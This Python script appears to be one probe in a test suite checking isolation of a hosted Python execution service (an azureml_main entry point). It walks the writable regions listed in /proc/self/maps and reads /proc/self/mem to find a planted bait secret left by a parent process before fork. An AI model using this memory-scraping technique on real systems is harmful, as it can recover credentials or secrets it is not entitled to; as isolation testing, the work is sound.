"""Looks through all of its own memory for a secret that the parent left there before the fork."""

from attack import BAIT, attack, every, told


def look_at(piece):
    start, end = piece
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        content = memory.read(end - start)
    # The mark itself is known to this script: a secret is what follows it.
    at = content.find(BAIT["mark"].encode() + b"-inherited-")
    return told("its own memory", content[at : at + 100]) if at >= 0 else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    pieces = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            place, rights = line.split()[:2]
            if rights.startswith("rw"):
                start, end = (int(number, 16) for number in place.split("-"))
                pieces.append((start, min(end, start + 64 * 1024**2)))
    return every(look_at, pieces)
